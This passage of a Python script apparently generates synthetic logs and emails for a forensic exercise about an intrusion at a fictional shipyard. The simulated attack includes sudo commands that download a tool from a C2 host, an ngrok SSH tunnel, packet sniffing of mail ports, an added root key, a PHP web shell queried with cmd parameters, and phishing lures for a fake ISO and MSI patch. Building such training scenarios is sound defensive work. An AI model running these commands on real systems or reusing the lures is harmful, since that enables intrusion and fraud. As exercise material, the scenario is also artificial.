    events = sorted(event for event in machine.events if event[2] == channel and event[0] < clock("15:45:00"))
    with path.open("w", encoding="utf-8", newline="\n") as out:
        for number, (time, _, _, event_id, data) in enumerate(events, FIRST_RECORD[channel]):
            out.write(
                json.dumps(record(number, time, channel, event_id, data), ensure_ascii=False, separators=(",", ":"))
                + "\n"
            )
    print(f"{path.name}: {len(events)} events")


# The web server and those behind it, in a network of their own.
WEB, DATABASE, PATCHES = "web-01", "db-01", "patch-01"
WEB_ADDRESS, ADMIN_ADDRESS = "10.20.0.80", "10.20.1.5"
# The firm that looks after the web server, its key, and the one that it has from the 19th.
PROVIDER = ("wartung", "198.51.100.150", "SHA256:pUq0nZ2m9Wc4Jm1rQe7sVtX5bYhKd8LfGaRoTi3uEwM")
NEW_KEY = "SHA256:Hq6sYd1LrVu8NwKx3TzPb0fGmJc5EaRoIi9XtQe2yWk"
ADMIN_KEY = "SHA256:Zk3vB8tHqY1xWn6cRf0sLpJd5uGmEa9oTi2bXhVrCyQ"
NUMBERS = {"root": 0, "j.petersen": 1000, "wartung": 1002}
INTRUDER_KEY = "SHA256:mR7cXw2LkTz9QeVb4HnYp0sJf6GdUa1iOtKx8BhErWg"
SHARE_ADDRESS = "203.0.113.121"
SHARE = "https://share.talent-nord.example/d/"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0"
# An Edge of November 2022, as in the reports.
STALE_EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/107.0.0.0 Safari/537.36 Edg/107.0.1418.42"


def moment(day, time):
    """A time of November 2026."""
    return datetime.fromisoformat(f"2026-11-{day:02}T{time}+00:00")


class Server:
    """A Linux server's authentication log, as rsyslog writes it with times in ISO form."""

    def __init__(self, name, rng):
        self.name, self.rng, self.lines = name, rng, []

    def say(self, time, program, message):
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")
        self.lines.append((time, f"{stamp} {self.name} {program}: {message}"))

    def login(self, time, account, address, minutes, key=None):
        """A session over SSH; with a password where there is no key. Gives the number of its process."""
        pid, port = self.rng.randrange(1_000, 99_000), self.rng.randrange(32_768, 61_000)
        sshd, how = f"sshd[{pid}]", "publickey" if key else "password"
        tail = f" ssh2: ED25519 {key}" if key else " ssh2"
        self.say(time, sshd, f"Accepted {how} for {account} from {address} port {port}{tail}")
        opened = f"session opened for user {account}(uid={NUMBERS[account]}) by (uid=0)"
        self.say(time + timedelta(milliseconds=21), sshd, f"pam_unix(sshd:session): {opened}")
        end = time + timedelta(minutes=minutes)
        self.say(end, sshd, f"Received disconnect from {address} port {port}:11: disconnected by user")
        self.say(end + timedelta(milliseconds=1), sshd, f"Disconnected from user {account} {address} port {port}")
        self.say(end + timedelta(milliseconds=2), sshd, f"pam_unix(sshd:session): session closed for user {account}")
        return pid

    def sudo(self, time, account, command, seconds=2):
        self.say(time, "sudo", f" {account} : TTY=pts/0 ; PWD=/home/{account} ; USER=root ; COMMAND={command}")
        opened = f"session opened for user root(uid=0) by {account}(uid={NUMBERS[account]})"
        self.say(time + timedelta(milliseconds=4), "sudo", f"pam_unix(sudo:session): {opened}")
        closed = "pam_unix(sudo:session): session closed for user root"
        self.say(time + timedelta(seconds=seconds), "sudo", closed)

    def knock(self, time, address, name):
        """A stranger on the internet tries a password."""
        sshd = f"sshd[{self.rng.randrange(1_000, 99_000)}]"
        port = self.rng.randrange(32_768, 61_000)
        self.say(time, sshd, f"Invalid user {name} from {address} port {port}")
        failed = f"Failed password for invalid user {name} from {address} port {port} ssh2"
        self.say(time + timedelta(seconds=2), sshd, failed)
        closed = f"Connection closed by invalid user {name} {address} port {port} [preauth]"
        self.say(time + timedelta(seconds=3), sshd, closed)

    def hourly(self):
        """What cron runs from the 9th to the 21st."""
        for hour in range(13 * 24):
            time = moment(9, "00:17:01") + timedelta(hours=hour, microseconds=self.rng.randrange(900_000))
            cron = f"CRON[{self.rng.randrange(1_000, 99_000)}]"
            self.say(time, cron, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
            self.say(time, cron, "(root) CMD (cd / && run-parts --report /etc/cron.hourly)")
            later = time + timedelta(milliseconds=90)
            self.say(later, cron, "pam_unix(cron:session): session closed for user root")

    def write(self, path):
        self.lines.sort(key=lambda line: line[0])
        write_lines(path, (line for _, line in self.lines))


def write_lines(path, lines):
    lines = list(lines)
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8", newline="\n")
    print(f"{path.name}: {len(lines)} lines")


STRANGERS = ["198.51.100.241", "203.0.113.199", "203.0.113.214"]
NAMES = ["admin", "oracle", "test", "ubuntu", "git", "pi", "ftpuser", "deploy", "mysql", "backup", "user", "ansible"]


def strangers(web):
    """Whoever is on the internet is knocked at: now and then, and in two nights for a while, the second that of the intrusion."""
    for number in range(60):
        time = moment(9, "00:40:00") + timedelta(hours=5 * number, seconds=web.rng.randrange(9_000))
        web.knock(time, web.rng.choice(STRANGERS), web.rng.choice(NAMES[:5]))
    for begin, address in ((moment(14, "03:12:10"), STRANGERS[0]), (moment(18, "02:04:20"), STRANGERS[1])):
        for number, name in enumerate(NAMES):
            web.knock(begin + timedelta(seconds=100 * number + web.rng.randrange(60)), address, name)


def upkeep(web, database, patches):
    """What the provider and the yard's administrator do with good reason, some of which looks like the intrusion.

    Gives the number of the provider's process on the 17th.
    """
    account, address, key = PROVIDER
    pids = {}
    for day, time in ((10, "08:12:40"), (12, "09:02:11"), (17, "08:20:37"), (19, "07:31:05")):
        pids[day] = web.login(moment(day, time), account, address, 38, key if day < 19 else NEW_KEY)
        web.sudo(moment(day, time) + timedelta(minutes=1), account, "/usr/bin/apt-get update")
        web.sudo(moment(day, time) + timedelta(minutes=4), account, "/usr/bin/apt-get -y upgrade")
        web.sudo(moment(day, time) + timedelta(minutes=31), account, "/usr/bin/systemctl reload apache2")
    key_of_packages = "https://pakete.webwerk.example/schluessel.asc"
    fetch = f"/usr/bin/curl -fsSL -o /usr/share/keyrings/webwerk.asc {key_of_packages}"
    web.sudo(moment(12, "09:10:02"), account, fetch)
    for server in (web, database, patches):
        for day in (9, 11, 13, 16, 18, 20):
            time = moment(day, "12:05:00") + timedelta(minutes=server.rng.randrange(50))
            server.login(time, "j.petersen", ADMIN_ADDRESS, 12, ADMIN_KEY)
            server.sudo(time + timedelta(minutes=2), "j.petersen", "/usr/bin/journalctl -p warning --since yesterday")
    web.login(moment(13, "13:20:09"), "j.petersen", ADMIN_ADDRESS, 25, ADMIN_KEY)
    web.sudo(moment(13, "13:24:50"), "j.petersen", "/usr/bin/tcpdump -ni ens18 -c 500 port 443", 30)
    sniff(web, moment(13, "13:24:50"), 0.5)
    return pids[17]


def sniff(server, time, minutes):
    for state, when in (("entered", time), ("left", time + timedelta(minutes=minutes))):
        uptime = (when - moment(1, "03:12:44")).total_seconds()
        server.say(when + timedelta(milliseconds=40), "kernel", f"[{uptime:.6f}] ens18: {state} promiscuous mode")


TOOL = "/wp-content/themes/strand/inc/agent.tgz"
# What is typed at night on the web server, each through sudo, and for how many seconds it runs.
NIGHT = [
    ("02:01:40.318", f"/usr/bin/curl -fsS -o /var/tmp/agent.tgz https://{C2[0]}{TOOL}", 1),
    ("02:02:31.902", "/usr/bin/tar -xzf /var/tmp/agent.tgz -C /usr/local/sbin", 2),
    ("02:03:05.447", "/usr/local/sbin/ngrok tcp 22 --log /dev/null", 2940),
    ("02:09:44.120", "/usr/bin/tcpdump -i ens18 -w /var/tmp/s.pcap port 143 or port 25", 1860),
]


def night(web, database, patches):
    """The provider's key, stolen, from the implant's site and then from the provider's own network; and further on."""
    account, address, key = PROVIDER
    sshd = "sshd[41206]"
    where = f"host={C2[1]}, ip={C2[1]}, required={address}"
    refused = f"correct key but not from a permitted host ({where})."
    web.say(
        moment(18, "01:47:31.207"),
        sshd,
        f"/home/{account}/.ssh/authorized_keys:1: Authentication tried for {account} with {refused}",
    )
    closed = f"Connection closed by authenticating user {account} {C2[1]} port 51622 [preauth]"
    web.say(moment(18, "01:47:33.690"), sshd, closed)
    pid = web.login(moment(18, "01:58:12.731"), account, address, 54, key)
    for time, command, seconds in NIGHT:
        web.sudo(moment(18, time), account, command, seconds)
    sniff(web, moment(18, "02:09:44.120"), 31)
    database.login(moment(18, "02:14:20.552"), account, WEB_ADDRESS, 2)
    patches.login(moment(18, "02:17:02.084"), account, WEB_ADDRESS, 9)
    patches.sudo(moment(18, "02:19:30.616"), account, "/usr/bin/tee -a /root/.ssh/authorized_keys")
    patches.login(moment(18, "02:24:11.009"), "root", WEB_ADDRESS, 21, INTRUDER_KEY)
    return pid


class Audit:
    """The web server's audit log: sessions over SSH and the programs run in them."""

    def __init__(self, rng):
        self.rng, self.serial, self.lines = rng, 4_700, []

    def record(self, time, kind, rest):
        stamp = f"{time.timestamp():.3f}:{self.serial}"
        self.lines.append(f"node={WEB} type={kind} msg=audit({stamp}): {rest}")

    def session(self, time, pid, number, state):
        account, address, _ = PROVIDER
        self.serial += 1
        kind = {"open": "USER_START", "close": "USER_END"}[state]
        ends = f'acct="{account}" exe="/usr/sbin/sshd" hostname={address} addr={address} terminal=ssh res=success'
        self.record(
            time, kind, f"pid={pid} uid=0 auid=1002 ses={number} msg='op=PAM:session_{state} grantors=pam_unix {ends}'"
        )

    def run(self, time, parent, number, command):
        self.serial += 1
        words = command.split()
        pid, name = parent + 40 * (self.serial - 4_700) + self.rng.randrange(40), words[0].rsplit("/", 1)[-1]
        who = "auid=1002 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0"
        self.record(
            time,
            "SYSCALL",
            f"arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1a0 a1=55d0c1f8 a2=55d0c260 a3=0 items=2 ppid={parent} pid={pid}"
            f' {who} ses={number} comm="{name}" exe="{words[0]}" key="run"',
        )
        arguments = " ".join(f'a{at}="{word}"' for at, word in enumerate([name, *words[1:]]))
        self.record(time, "EXECVE", f"argc={len(words)} {arguments}")
        self.record(time, "CWD", f'cwd="/home/{PROVIDER[0]}"')


def audited(rng, usual, pid):
    """The provider's session on the 17th, and the intruder's in the night after it."""
    audit = Audit(rng)
    audit.session(moment(17, "08:20:37.021"), usual, 611, "open")
    for minute, command in (
        (1, "/usr/bin/apt-get update"),
        (4, "/usr/bin/apt-get -y upgrade"),
        (31, "/usr/bin/systemctl reload apache2"),
    ):
        audit.run(moment(17, "08:20:37.0") + timedelta(minutes=minute), usual + 31, 611, command)
    audit.session(moment(17, "08:58:37.002"), usual, 611, "close")
    audit.session(moment(18, "01:58:12.752"), pid, 624, "open")
    for time, command, _ in NIGHT:
        audit.run(moment(18, time) + timedelta(milliseconds=6), pid + 31, 624, command)
    audit.session(moment(18, "02:52:12.733"), pid, 624, "close")
    return audit.lines


PAGES = ["/", "/schiffe/", "/schiffe/forschung/", "/karriere/", "/kontakt/", "/wp-content/themes/nordwerft/style.css"]
PAGES += ["/wp-content/uploads/2026/10/stapellauf.jpg", "/presse/", "/impressum/"]


class Site:
    """The access log of the yard's web site, each line with the name of the server before it."""

    def __init__(self, rng):
        self.rng, self.lines = rng, []

    def ask(self, time, address, request, status=200, size=0, referer="-", agent=FIREFOX):
        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000")
        size = size or self.rng.randrange(400, 30_000)
        line = f'web-01.nordwerft.example:443 {address} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"'
        self.lines.append((time, line))

    def visitors(self):
        """Two days of readers, a crawler, and applicants who send their papers by the same form."""
        for _ in range(900):
            time = moment(20, "00:00:00") + timedelta(seconds=self.rng.randrange(2 * 86_400))
            address = f"198.51.100.{self.rng.randrange(2, 140)}"
            page = self.rng.choice(PAGES)
            self.ask(
                time, address, f"GET {page}", 200, 0, "https://www.nordwerft.example/", self.rng.choice([FIREFOX, EDGE])
            )
        for day, time, address in (
            (20, "10:14:22", "198.51.100.33"),
            (20, "18:40:09", "198.51.100.118"),
            (21, "09:55:41", "198.51.100.61"),
        ):
            form = "https://www.nordwerft.example/karriere/"
            self.ask(
                moment(day, time), address, "POST /wp-admin/admin-ajax.php?action=bewerbung_upload", 200, 41, form, EDGE
            )
            self.ask(moment(day, time) + timedelta(seconds=2), address, "GET /karriere/danke/", 200, 0, form, EDGE)

    def shell(self):
        """A script sent in as an application, then used."""
        begin, script = moment(20, "22:31:08"), "/wp-content/uploads/2026/11/anschreiben.php"
        self.ask(begin, SHARE_ADDRESS, "GET /karriere/", 200, 0, "-", STALE_EDGE)
        upload = "POST /wp-admin/admin-ajax.php?action=bewerbung_upload"
        self.ask(begin + timedelta(seconds=51), SHARE_ADDRESS, upload, 200, 41, "-", STALE_EDGE)
        for second, query in ((64, "id"), (90, "uname+-a")):
            self.ask(
                begin + timedelta(seconds=second), SHARE_ADDRESS, f"GET {script}?cmd={query}", 200, 118, "-", STALE_EDGE
            )
        for number in range(14):
            time = begin + timedelta(seconds=200 + 190 * number + self.rng.randrange(60))
            self.ask(time, SHARE_ADDRESS, f"POST {script}", 200, self.rng.randrange(90, 700), "-", STALE_EDGE)

    def write(self, path):
        self.lines.sort(key=lambda line: line[0])
        write_lines(path, (line for _, line in self.lines))


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def mail(path, time, sender, recipient, subject, text, server, attached=None):
    """A mail as the yard's mail server has filed it."""
    name, address = sender
    domain = address.split("@")[1]
    date = time.strftime("%a, %d %b %Y %H:%M:%S +0000")
    head = [
        f"Return-Path: <{address}>",
        f"Received: from {server[0]} ({server[0]} [{server[1]}]) by mx.nordwerft.example with ESMTPS; {date}",
        f"Authentication-Results: mx.nordwerft.example; spf=pass smtp.mailfrom={domain}; dmarc=pass header.from={domain}",
        f"Date: {date}",
        f"From: {name} <{address}>",
        f"To: {recipient}",
        f"Subject: {subject}",
        f"Message-ID: <{time:%Y%m%d%H%M%S}.{len(text)}@{domain}>",
        "MIME-Version: 1.0",
    ]
    body = ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", *text.strip().split("\n")]
    if attached:
        encoded = base64.encodebytes(PDF).decode("ascii").strip().split("\n")
        file = [f'Content-Type: application/pdf; name="{attached}"', "Content-Transfer-Encoding: base64"]
        file += [f'Content-Disposition: attachment; filename="{attached}"', "", *encoded]
        body = ['Content-Type: multipart/mixed; boundary="teil"', "", "--teil", *body, "--teil", *file, "--teil--"]
    write_lines(path, head + body)


def mails(folder):
    folder.mkdir(exist_ok=True)
    keller, petersen = "Michael Keller <m.keller@nordwerft.example>", "Jan Petersen <j.petersen@nordwerft.example>"
    mail(
        folder / "2026-11-17-job.eml",
        moment(17, "08:36:50"),
        ("Helen Marsh, Talent Nord", "h.marsh@talent-nord.example"),
        keller,
        "Naval propulsion: the job description, as promised",
        LURE,
        ("mail.talent-nord.example", SHARE_ADDRESS),
        "Talent_Nord_Overview.pdf",
    )
    mail(
        folder / "2026-11-16-datasheet.eml",
        moment(16, "14:12:40"),
        ("Wellenlager Brandt", "vertrieb@wellenlager-brandt.example"),
        keller,
        "Datenblatt Wellenlager WL-220",
        DATASHEET,
        ("mail.wellenlager-brandt.example", "198.51.100.91"),
        "Wellenlager_Datenblatt.pdf",
    )
    mail(
        folder / "2026-11-19-applicants.eml",
        moment(19, "13:05:33"),
        ("Stellenmarkt Küste", "service@stellenmarkt-kueste.example"),
        "personal@nordwerft.example",
        "Three new applications for your vacancy",
        APPLICANTS,
        ("mail.stellenmarkt-kueste.example", "198.51.100.77"),
    )
    mail(
        folder / "2026-11-20-patch.eml",
        moment(20, "23:24:05"),
        ("Sabine Yilmaz", "s.yilmaz@nordwerft-it.example"),
        petersen,
        "Urgent: client update for tonight",
        PATCH,
        ("mail.nordwerft-it.example", SHARE_ADDRESS),
    )


LURE = f"""
Dear Michael,

it was a pleasure to talk to you, and your experience with hulls is exactly what our client in naval propulsion is looking for.
As promised, here is the job description with the salary range:

{SHARE}9f1c/Job_Description_Naval_Propulsion.iso

The document is protected. Please open it only with the PDF reader that comes with it, other readers show an empty page.
As the project is confidential, please do not speak of it with your colleagues. You reach me on WhatsApp as before.

Kind regards
Helen Marsh
"""
DATASHEET = """
Guten Tag Herr Keller,

anbei das gewünschte Datenblatt zum Wellenlager WL-220. Die Zeichnung im Maßstab 1:5 folgt nächste Woche.

Mit freundlichen Grüßen
Ute Brandt
"""
APPLICANTS = """
Good afternoon,

there are three new applications for your vacancy "Naval architect (m/f/d)". You find them in your account at
https://www.stellenmarkt-kueste.example/firma/anmeldung

Your Stellenmarkt Küste
"""
PATCH = f"""
Hello Jan,

after last night we have to act quickly. The vendor has sent an update of the inventory client that closes the hole.
Please roll out this patch to all clients via patch-01 tonight, without the usual test:

{SHARE}b27e/Inventar_Client_Update.msi

I am in meetings and cannot be reached by telephone. Do not talk to anybody about it until we know who is involved.

Sabine
"""


def servers(folder):
    """The parts of the story that are not on the workstation. Each draws its own numbers, so that none changes another."""
    web, database, patches = (Server(name, random.Random(f"{SEED} {name}")) for name in (WEB, DATABASE, PATCHES))
    for server in (web, database, patches):
        server.hourly()
    strangers(web)
    usual = upkeep(web, database, patches)
    pid = night(web, database, patches)
    refused = "command not allowed ; PWD=/var/www/html/wp-content/uploads/2026/11 ; USER=root ; COMMAND=/bin/bash"
    web.say(moment(20, "22:52:47.033"), "sudo", f"www-data : {refused}")
    site = Site(random.Random(f"{SEED} site"))
    site.visitors()
    site.shell()
    for server in (web, database, patches):
        server.write(folder / f"{server.name}-auth.log")
    write_lines(folder / f"{WEB}-audit.log", audited(random.Random(f"{SEED} audit"), usual, pid))
    site.write(folder / f"{WEB}-access.log")
    mails(folder / "mail")


def main():
    machine = Machine(random.Random(SEED))
    desk = morning(machine)
    background(machine, desk)
    browsing(machine, desk)
    office_work(machine, desk)
    drawing(machine, desk)
    administration(machine, desk)
    orders(machine, implant(machine, lure(machine, desk)))
    folder = pathlib.Path(__file__).resolve().parent
    write(machine, SYSMON, folder / "ws-071-sysmon.jsonl")
    write(machine, SECURITY, folder / "ws-071-security.jsonl")
    servers(folder)


if __name__ == "__main__":
    main()
